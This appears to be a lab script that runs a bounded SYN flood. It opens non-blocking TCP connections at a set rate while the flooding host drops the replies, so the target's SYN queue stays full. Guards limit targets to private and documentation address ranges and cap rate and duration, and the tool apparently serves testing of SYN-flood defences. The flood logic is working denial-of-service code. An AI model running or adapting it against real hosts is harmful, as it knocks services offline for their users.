#!/usr/bin/env python3
"""A bounded SYN flood for the lab: a steady stream of non-blocking connect()s from one source
address, whose SYN-ACKs the caller drops (an nft rule on the flooding host), so each one leaves a
half-open request socket (SYN-RECV) on the server until its SYN-ACK retries run out. At --rate new
SYNs per second, a slot freed in the server's SYN queue is taken again within milliseconds, so the
queue stays full for as long as this runs. At most --keep sockets are held (the oldest go first).

    syn-flood.py --from 203.0.113.99 --to 203.0.113.10 --port 8080 [--rate 200] [--keep 1000]
                 [--max-seconds 600]

Prints "flooding" after the first batch. Ends on SIGTERM/SIGINT or after --max-seconds.
Lab use only: it refuses destinations outside the documentation prefixes the lab uses.
"""
import argparse
import collections
import ipaddress
import socket
import sys
import time

from labtool import stop_requested

LAB_PREFIXES = [ipaddress.ip_network(n) for n in ("10.0.0.0/8", "203.0.113.0/24", "2001:db8::/32")]


def main() -> int:
    p = argparse.ArgumentParser(prog="syn-flood.py")
    p.add_argument("--from", dest="source", required=True)
    p.add_argument("--to", dest="target", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--rate", type=int, default=200)
    p.add_argument("--keep", type=int, default=1000)
    p.add_argument("--max-seconds", type=float, default=600)
    a = p.parse_args()
    target = ipaddress.ip_address(a.target)
    if not any(target in n for n in LAB_PREFIXES):
        p.error(f"--to {a.target} is not a lab address")
    if not 1 <= a.rate <= 5000 or not 1 <= a.keep <= 20000:
        p.error("--rate must be 1..5000 and --keep 1..20000")
    if a.max_seconds > 3600:
        p.error("--max-seconds must be <= 3600")
    af = socket.AF_INET6 if target.version == 6 else socket.AF_INET

    stopping = stop_requested()
    held = collections.deque()

    def open_some(n):
        for _ in range(n):
            s = socket.socket(af, socket.SOCK_STREAM)
            s.setblocking(False)
            s.bind((a.source, 0))
            s.connect_ex((a.target, a.port))
            held.append(s)
            while len(held) > a.keep:
                held.popleft().close()

    tick = 0.05
    per_tick = max(1, round(a.rate * tick))
    open_some(per_tick)
    print("flooding", flush=True)
    deadline = time.monotonic() + a.max_seconds
    while not stopping() and time.monotonic() < deadline:
        time.sleep(tick)
        open_some(per_tick)
    for s in held:
        s.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
